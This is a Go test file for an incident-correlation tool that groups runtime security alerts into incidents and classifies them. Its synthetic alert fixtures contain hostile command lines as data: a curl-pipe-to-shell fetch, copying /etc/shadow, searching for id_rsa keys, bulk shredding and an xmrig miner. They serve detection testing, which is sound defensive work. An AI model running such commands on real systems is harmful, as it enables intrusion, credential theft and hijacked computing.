package incident_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/tiercel/tiercel/analysis"
	"github.com/tiercel/tiercel/incident"
	"github.com/tiercel/tiercel/knowledge/builtin"
	"github.com/tiercel/tiercel/pipeline"
)

var start = time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)

// at is an alert at a second of the day, with fields given as name=value; a
// number is one. Fields of a login on a host are there unless given.
func at(second int, rule string, fields ...string) string {
	when := start.Add(time.Duration(second) * time.Second)
	values := map[string]any{"container.id": "host", "evt.time": when.UnixNano(), "proc.tty": 34816, "user.loginuid": 1000,
		"user.name": "ann", "user.uid": 1000, "proc.name": "cat", "proc.pname": "bash"}
	top := map[string]any{"rule": rule, "priority": "Warning", "source": "syscall", "hostname": "web1", "output": "x",
		"time": when.Format(time.RFC3339Nano), "output_fields": values}
	for _, f := range fields {
		name, value, _ := strings.Cut(f, "=")
		var v any = value
		if _, err := fmt.Sscanf(value, "%d", new(int)); err == nil && strings.Trim(value, "-0123456789") == "" {
			v = json.Number(value)
		}
		switch name {
		case "hostname", "source", "priority", "uuid":
			top[name] = v
		default:
			values[name] = v
		}
	}
	text, err := json.Marshal(top)
	if err != nil {
		panic(err)
	}
	return string(text)
}

func run(t testing.TB, limits incident.Limits, lines ...string) (*pipeline.Result, []*incident.Incident) {
	t.Helper()
	return runWith(t, pipeline.Options{Limits: limits}, lines...)
}

// runStable is run with patterns that can be remembered.
func runStable(t testing.TB, lines ...string) (*pipeline.Result, []*incident.Incident) {
	t.Helper()
	return runWith(t, pipeline.Options{Stable: true}, lines...)
}

func runWith(t testing.TB, opt pipeline.Options, lines ...string) (*pipeline.Result, []*incident.Incident) {
	t.Helper()
	return runAll(t, opt, lines)
}

// runFiles reads several files, each given by its lines.
func runFiles(t testing.TB, files ...[]string) (*pipeline.Result, []*incident.Incident) {
	t.Helper()
	return runAll(t, pipeline.Options{}, files...)
}

func runAll(t testing.TB, opt pipeline.Options, files ...[]string) (*pipeline.Result, []*incident.Incident) {
	t.Helper()
	limits := &opt.Limits
	var in []pipeline.Input
	for n, lines := range files {
		in = append(in, pipeline.Input{Name: fmt.Sprintf("log.%d", n), Open: func() (io.ReadCloser, error) {
			return io.NopCloser(strings.NewReader(strings.Join(lines, "\n") + "\n")), nil
		}})
	}
	if limits.Kinds == 0 {
		limits.Kinds = 100_000
	}
	limits.Each = true
	res, err := pipeline.Run(context.Background(), analysis.New(builtin.Base(), analysis.Options{}), in, opt)
	if err != nil {
		t.Fatal(err)
	}
	list, rest := res.Kinds.Incidents()
	for _, kind := range rest {
		list = append(list, &incident.Incident{Kinds: []*incident.Kind{kind}, Telling: kind, Judgement: kind.Judgement, Count: kind.Count})
	}
	return res, list
}

// parts says which lines, counted from 1, are in one incident: "1 2|3".
func parts(list []*incident.Incident) string {
	var out []string
	for _, i := range list {
		out = append(out, strings.Trim(fmt.Sprint(linesOf(i)), "[]"))
	}
	sort.Strings(out)
	return strings.Join(out, "|")
}

func linesOf(i *incident.Incident) []int {
	var lines []int
	for _, k := range i.Kinds {
		for _, r := range k.Each() {
			lines = append(lines, r.Line)
		}
	}
	slices.Sort(lines)
	return lines
}

const (
	recon  = "Basic Interactive Reconnaissance"
	shadow = "Read sensitive file untrusted"
	keys   = "Search Private Keys or Passwords"
	shell  = "Run shell untrusted"
	wipe   = "Remove Bulk Data from Disk"
)

// TestWhatBelongsTogether reads as examples: what two alerts share, and how
// far apart they may be.
func TestWhatBelongsTogether(t *testing.T) {
	container := []string{"container.id=0a1b2c3d4e5f", "user.loginuid=-1", "user.name=root", "user.uid=0", "proc.tty=0"}
	daemon := []string{"user.loginuid=-1", "proc.tty=0", "user.name=www-data", "user.uid=33"}
	root := []string{"user.loginuid=-1", "proc.tty=0", "user.name=root", "user.uid=0"}
	with := func(base []string, more ...string) []string { return append(slices.Clone(base), more...) }
	for _, c := range []struct {
		name, want string
		alerts     []string
	}{
		{"one login on one terminal, 20 minutes apart", "1 2", []string{at(0, recon, "proc.name=id"), at(1200, keys, "proc.cmdline=find / -name id_rsa")}},
		{"another terminal of the same login, within minutes", "1 2", []string{at(0, recon), at(60, keys, "proc.tty=34817")}},
		{"another terminal of the same login, an hour later", "1|2", []string{at(0, recon), at(3600, keys, "proc.tty=34817")}},
		{"the same login as root, after sudo", "1 2", []string{at(0, recon), at(60, shadow, "user.name=root", "user.uid=0", "fd.name=/etc/shadow")}},
		{"two logins at once", "1|2", []string{at(0, recon), at(1, keys, "user.loginuid=1001", "user.name=bob", "proc.tty=34817")}},
		{"the same login id on another machine", "1|2", []string{at(0, recon), at(1, keys, "hostname=web2")}},
		{"one container", "1 2", []string{at(0, recon, container...), at(300, keys, container...)}},
		{"one container, an hour apart", "1|2", []string{at(0, recon, container...), at(3600, keys, container...)}},
		{"two containers", "1|2", []string{at(0, recon, container...), at(1, keys, with(container, "container.id=ffffffffffff")...)}},
		{"two containers, one login", "1 2", []string{at(0, recon, with(container, "user.loginuid=1000")...), at(1, keys, with(container, "container.id=ffffffffffff", "user.loginuid=1000")...)}},
		{"the account of a service", "1 2", []string{at(0, shell, with(daemon, "proc.pname=nginx")...), at(10, keys, daemon...)}},
		{"below one service as two accounts", "1 2", []string{at(0, shell, with(daemon, "proc.pname=nginx")...), at(10, keys, with(root, "proc.aname[3]=nginx")...)}},
		{"a service and a login", "1|2", []string{at(0, shell, with(daemon, "proc.pname=nginx")...), at(10, keys)}},
		{"two jobs of root that cron started", "1|2", []string{at(0, recon, with(root, "proc.pname=cron")...), at(10, keys, with(root, "proc.pname=cron")...)}},
		{"a process and its child", "1 2", []string{at(0, recon, with(root, "proc.pname=cron", "proc.pid=4711")...), at(10, keys, with(root, "proc.pname=run", "proc.ppid=4711", "proc.pid=4712")...)}},
		{"a session without login", "1 2", []string{at(0, recon, with(root, "proc.pname=cron", "proc.sid=900")...), at(2400, keys, with(root, "proc.pname=x", "proc.sid=900")...)}},
		{"children of init", "1|2", []string{at(0, recon, with(root, "proc.pname=systemd", "proc.ppid=1")...), at(10, keys, with(root, "proc.pname=systemd", "proc.ppid=1")...)}},
		{"what one wrote, another runs", "1 2", []string{at(0, shell, with(daemon, "proc.cmdline=curl -o /tmp/.w http://x", "proc.pname=nginx")...),
			at(100, "Execution from /dev/shm", with(root, "proc.pname=cron", "proc.exepath=/tmp/.w")...)}},
		{"the same folder is no file", "1|2", []string{at(0, shell, with(daemon, "proc.cmdline=ls /tmp", "proc.pname=nginx")...),
			at(100, recon, with(root, "proc.pname=cron", "proc.cmdline=du /tmp")...)}},
		{"one public address from two machines", "1 2", []string{at(0, shell, with(daemon, "proc.pname=nginx", "proc.cmdline=sh -c curl http://8.8.4.4/x|sh")...),
			at(1000, shell, with(daemon, "hostname=db1", "user.name=mysql", "proc.pname=mysqld", "proc.cmdline=sh -c curl http://8.8.4.4/x|sh")...)}},
		{"one private address from two machines", "1|2", []string{at(0, shell, with(daemon, "proc.pname=nginx", "proc.cmdline=sh -c curl http://10.0.0.4/x|sh")...),
			at(10, shell, with(daemon, "hostname=db1", "user.name=mysql", "proc.pname=mysqld", "proc.cmdline=sh -c curl http://10.0.0.4/x|sh")...)}},
		{"kubectl exec and the shell in that pod", "1 2", []string{
			at(0, "Attach/Exec Pod", "source=k8s_audit", "hostname=api", "ka.user.name=eve", "ka.target.namespace=shop", "ka.target.name=web-0"),
			at(2, "Terminal shell in container", with(container, "k8s.ns.name=shop", "k8s.pod.name=web-0", "proc.tty=34816")...)}},
		{"nothing to go by", "1|2", []string{at(0, recon, with(root, "proc.pname=cron")...), at(1, keys, with(root, "proc.pname=sshd")...)}},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, list := run(t, incident.Limits{}, c.alerts...)
			if got := parts(list); got != c.want {
				t.Errorf("incidents of lines %s, want %s", got, c.want)
			}
		})
	}
}

// recorded are the recordings of a folder, each moved to a host and logins of
// its own if apart is set, with the lines' sequence.
func recorded(t testing.TB, apart bool) (lines, sequence []string) {
	t.Helper()
	files, err := filepath.Glob("../testdata/corpus/*.jsonl")
	if err != nil || len(files) < 20 {
		t.Fatal("no recordings", err)
	}
	for n, name := range files {
		if filepath.Base(name) == "truth.jsonl" {
			continue
		}
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(strings.TrimSpace(string(text)), "\n") {
			if apart {
				line = strings.Replace(line, `"hostname":"vm"`, fmt.Sprintf(`"hostname":"vm%d"`, n), 1)
			}
			lines, sequence = append(lines, line), append(sequence, filepath.Base(name))
		}
	}
	return lines, sequence
}

// TestIncidentsOfOneHostStayOnIt mixes all recordings: no incident has alerts
// of two hosts.
func TestIncidentsOfOneHostStayOnIt(t *testing.T) {
	lines, sequence := recorded(t, true)
	order := rand.New(rand.NewPCG(1, 1)).Perm(len(lines))
	mixed := make([]string, len(lines))
	for to, from := range order {
		mixed[to] = lines[from]
	}
	_, list := run(t, incident.Limits{Kept: 5000}, mixed...)
	for _, i := range list {
		files := map[string]bool{}
		for _, n := range linesOf(i) {
			files[sequence[order[n-1]]] = true
		}
		if len(files) != 1 {
			t.Errorf("one incident of %v", files)
		}
	}
	if len(list) < 20 || len(list) > 90 {
		t.Errorf("%d incidents", len(list))
	}
}

// TestOrderDoesNotMatter delivers alerts late and out of order, up to the
// lateness that is allowed: the same incidents come out, with the same ids.
func TestOrderDoesNotMatter(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 7))
	for round := range 20 {
		var lines []string
		var times []int
		for n := range 400 {
			second := r.IntN(40_000)
			fields := []string{fmt.Sprintf("user.loginuid=%d", 1000+r.IntN(4)), fmt.Sprintf("proc.tty=%d", 34816+r.IntN(3)),
				fmt.Sprintf("hostname=h%d", r.IntN(2)), fmt.Sprintf("proc.cmdline=find / -name id_rsa%d", n%17), fmt.Sprintf("evt.num=%d", n)}
			if r.IntN(3) == 0 {
				fields = append(fields, fmt.Sprintf("container.id=c%d", r.IntN(5)), "user.loginuid=-1")
			}
			lines, times = append(lines, at(second, []string{recon, keys, wipe}[r.IntN(3)], fields...)), append(times, second)
		}
		describe := func(late int) string {
			order := make([]int, len(lines))
			arrival := make([]int, len(lines))
			for n := range order {
				order[n], arrival[n] = n, times[n]
				if late > 0 {
					arrival[n] += r.IntN(late)
				}
			}
			sort.SliceStable(order, func(a, b int) bool { return arrival[order[a]] < arrival[order[b]] })
			mixed := make([]string, len(lines))
			for to, from := range order {
				mixed[to] = lines[from]
			}
			res, list := run(t, incident.Limits{Kept: 5000}, mixed...)
			var out []string
			for _, i := range list {
				var was []int
				for _, n := range linesOf(i) {
					was = append(was, order[n-1])
				}
				slices.Sort(was)
				out = append(out, fmt.Sprint(was, i.ID, i.Judgement.Class, i.Judgement.Severity, i.Count))
			}
			sort.Strings(out)
			return strings.Join(out, "\n") + fmt.Sprint(res.Kinds.Forgotten())
		}
		want := describe(0)
		for range 3 {
			if got := describe(599); got != want {
				t.Fatalf("round %d: late alerts change the incidents:\n%s\nwant\n%s", round, got, want)
			}
		}
	}
}

// TestIDsDoNotDependOnRoom gives the same names with and without room for the
// alerts, so that every format tells the same.
func TestIDsDoNotDependOnRoom(t *testing.T) {
	lines, _ := recorded(t, true)
	ids := func(kept int) (out []string) {
		_, list := run(t, incident.Limits{Kept: kept}, lines...)
		for _, i := range list {
			if !i.Single() {
				out = append(out, i.ID)
			}
		}
		sort.Strings(out)
		return out
	}
	many, few := ids(5000), ids(3)
	if !slices.Equal(many, few) || len(slices.Compact(many)) != len(few) || len(few) < 20 {
		t.Errorf("%v\n%v", many, few)
	}
}

// TestRepeatedDeliveries counts an alert once, whatever id its delivery has,
// and not what only looks like it.
func TestRepeatedDeliveries(t *testing.T) {
	again := func(uuid string) string { return at(5, recon, "uuid="+uuid, "evt.num=7") }
	res, list := run(t, incident.Limits{Kept: 10}, again("a"), again("b"), at(5, recon, "evt.num=8"), at(6, recon, "evt.num=7"), again("c"))
	if res.Kinds.Repeats != 2 || len(list) != 1 || list[0].Count != 3 || list[0].Repeats != 2 || len(linesOf(list[0])) != 5 {
		t.Errorf("%d repeats, %d incidents, %+v", res.Kinds.Repeats, len(list), list[0])
	}
}

// TestVerdictOnTheWhole reads as examples.
func TestVerdictOnTheWhole(t *testing.T) {
	many := func(n int, make func(i int) string) (out []string) {
		for i := range n {
			out = append(out, make(i))
		}
		return out
	}
	sudo := []string{"user.name=root", "user.uid=0", "proc.pname=sudo", "proc.aname[2]=bash", "proc.aname[3]=sshd", "proc.name=useradd", "proc.exepath=/usr/sbin/useradd"}
	account := func(i int) string {
		return at(i, "User mgmt binaries", append(slices.Clone(sudo), fmt.Sprintf("proc.cmdline=useradd -m u%d", i))...)
	}
	for _, c := range []struct {
		name, want string
		alerts     []string
	}{
		{"looking around alone", "unknown", []string{at(0, recon, "proc.name=id"), at(1, recon, "proc.name=whoami", "proc.cmdline=whoami")}},
		{"looking around, then for keys", "suspicious", []string{at(0, recon, "proc.name=id"), at(1, keys, "proc.name=find", "proc.cmdline=find / -name id_rsa")}},
		{"twelve files wiped", "suspicious", many(12, func(i int) string {
			return at(i, wipe, "proc.name=shred", fmt.Sprintf("proc.cmdline=shred -u doc%d.txt", i))
		})},
		{"two files wiped", "unknown", many(2, func(i int) string {
			return at(i, wipe, "proc.name=shred", fmt.Sprintf("proc.cmdline=shred -u doc%d.txt", i))
		})},
		{"an administrator's work", "benign", many(4, account)},
		{"one odd alert in an administrator's work", "benign unknown", append(many(6, account),
			at(9, keys, "proc.name=find", "proc.cmdline=find / -name id_rsa"))},
		{"an attack in an administrator's session", "attack", append(many(6, account),
			at(9, keys, "proc.name=find", "proc.cmdline=find / -name id_rsa"), at(10, shadow, "proc.name=cp", "fd.name=/etc/shadow", "proc.cmdline=cp /etc/shadow /tmp/.s"),
			at(11, "Execution from /dev/shm", "proc.name=xmrig", "proc.exepath=/dev/shm/xmrig", "proc.cmdline=xmrig -o stratum+tcp://1.2.3.4:3333"))},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, list := run(t, incident.Limits{Kept: 100}, c.alerts...)
			var got []string
			for _, i := range list {
				got = append(got, i.Judgement.Class.String())
				if len(i.Grounds) == 0 && !i.Single() {
					t.Error("a verdict without a ground")
				}
			}
			sort.Strings(got)
			if text := strings.Join(got, " "); text != c.want {
				t.Errorf("called %s, want %s", text, c.want)
			}
		})
	}
}

// TestAttackBesideATest runs a test tool and an intruder in one container: the
// intruder's alerts are not the test's.
func TestAttackBesideATest(t *testing.T) {
	text, err := os.ReadFile("../testdata/corpus/eg-container-all.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(text)), "\n")
	var first struct {
		Hostname string         `json:"hostname"`
		Fields   map[string]any `json:"output_fields"`
	}
	if err := json.Unmarshal([]byte(lines[0]), &first); err != nil {
		t.Fatal(err)
	}
	second := 34*60 + 20
	own := []string{"hostname=" + first.Hostname, fmt.Sprint("container.id=", first.Fields["container.id"]), "user.loginuid=-1", "user.name=root", "user.uid=0"}
	attack := func(i int, rule string, fields ...string) string {
		return at(second+i, rule, append(slices.Clone(own), fields...)...)
	}
	lines = append(lines, attack(1, "Drop and execute new binary in container", "proc.name=.x", "proc.exepath=/tmp/.x", "proc.cmdline=.x", "proc.pname=bash"),
		attack(2, keys, "proc.name=find", "proc.cmdline=find / -name id_rsa"))
	_, list := run(t, incident.Limits{Kept: 1000}, lines...)
	for _, i := range list {
		in := linesOf(i)
		has := in[len(in)-1] > len(lines)-2
		if has && i.Judgement.Class < analysis.Suspicious {
			t.Errorf("the intruder is called %s", i.Judgement.Class)
		}
		if !has && i.Judgement.Class != analysis.Test {
			t.Errorf("lines %v of the test are called %s", in, i.Judgement.Class)
		}
	}
}

// TestRoutineStaysOut lets a container make the same noise for an hour before
// somebody breaks in: the noise is told apart.
func TestRoutineStaysOut(t *testing.T) {
	own := []string{"container.id=0a1b2c3d4e5f", "user.loginuid=-1", "user.name=root", "user.uid=0", "proc.tty=0"}
	var lines []string
	for i := range 120 {
		lines = append(lines, at(60*i, "Contact K8S API Server From Container", append(slices.Clone(own), "proc.name=agent", fmt.Sprintf("evt.num=%d", i))...))
	}
	lines = append(lines, at(3605, "Drop and execute new binary in container", append(slices.Clone(own), "proc.name=.x", "proc.exepath=/tmp/.x", "proc.cmdline=.x")...),
		at(3610, keys, append(slices.Clone(own), "proc.name=find", "proc.cmdline=find / -name id_rsa")...))
	_, list := run(t, incident.Limits{Kept: 1000}, lines...)
	if got := parts(list); len(list) != 2 || !strings.Contains(got, "|121 122") && !strings.HasPrefix(got, "121 122|") {
		t.Errorf("incidents of lines %s", got)
	}
	if list[0].Judgement.Class < analysis.Suspicious || list[1].Aside != incident.Routine {
		t.Errorf("%+v, %+v", list[0], list[1])
	}
}

// TestLimitsAreCounted gives less room than is needed: every alert is in one
// incident all the same, and what was given up is counted.
func TestLimitsAreCounted(t *testing.T) {
	var lines []string
	for i := range 3000 {
		lines = append(lines, at(i/10, recon, fmt.Sprintf("container.id=c%d", i%1000), "user.loginuid=-1", "user.name=root", fmt.Sprintf("evt.num=%d", i)))
	}
	for _, c := range []struct {
		links     int
		forgotten bool
	}{{100, true}, {100_000, false}} {
		res, list := run(t, incident.Limits{Kept: 10, Links: c.links}, lines...)
		seen := map[int]bool{}
		for _, i := range list {
			for _, n := range linesOf(i) {
				if seen[n] {
					t.Fatalf("line %d is in two incidents", n)
				}
				seen[n] = true
			}
		}
		if len(seen) != len(lines) || res.Kinds.Forgotten() > 0 != c.forgotten {
			t.Errorf("%d links: %d of %d alerts, %d forgotten", c.links, len(seen), len(lines), res.Kinds.Forgotten())
		}
	}
}

// BenchmarkAdd adds alerts while many incidents are open: what one costs must
// not grow with them.
func BenchmarkAdd(b *testing.B) {
	for _, open := range []int{10, 1000, 100_000} {
		b.Run(fmt.Sprint(open), func(b *testing.B) {
			k := incident.NewKinds(incident.Limits{Kinds: 2 * open, Kept: 10})
			seen := make([]incident.Seen, open)
			for i := range seen {
				for l := range 3 {
					seen[i].Links = append(seen[i].Links, incident.Link{Key: uint64(i)*0x9e3779b97f4a7c15 + uint64(l), Kind: incident.LinkContainer})
				}
				seen[i].Key, seen[i].Rule, seen[i].Time = uint64(i)*0x2545f4914f6cdd1d, recon, start
				k.Add(&seen[i])
			}
			b.ReportAllocs()
			b.ResetTimer()
			for n := range b.N {
				s := &seen[n*7919%open]
				s.Time, s.Print = start.Add(time.Duration(n)*time.Microsecond), uint64(n)*0x9e3779b97f4a7c15
				k.Add(s)
			}
		})
	}
}
